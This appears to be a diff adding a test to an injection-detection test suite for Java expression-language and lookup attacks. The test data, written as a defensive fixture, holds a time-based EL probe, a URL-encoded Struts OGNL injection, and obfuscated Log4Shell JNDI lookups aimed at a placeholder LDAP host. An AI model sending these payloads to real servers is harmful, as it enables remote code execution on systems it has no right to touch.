@@ -179,6 +179,12 @@ describe('Java: expressions and lookups', () => {
     expect(alertIds({ target: '/struts2-showcase/%24%7B%28111%2B111%29%7D/actionChain1.action' })).toContain(700101);
   });
 
+  it("EL 3.0's time-based probe: java.lang classes by their simple name (`${Thread.sleep(5000)}`)", () => {
+    expect(idsOf('${Thread.sleep(5000)}', 'body_json', 'studentName')).toContain(420104);
+    expect(idsOf('#{ Thread . sleep(5000) }')).toContain(420104);
+    expect(idsOf('Thread.sleep(5000) keeps the worker waiting')).toEqual([]);
+  });
+
   it('resolves date lookups whose pattern is quoted text or punctuation (Log4Shell)', () => {
     expect(lookupForm("${jn${date:}di${date:':'}ldap://x/a}")).toBe('${jndi:ldap://x/a}');
     expect(lookupForm('${jndi${date::}ldap://x/a}')).toBe('${jndi:ldap://x/a}');
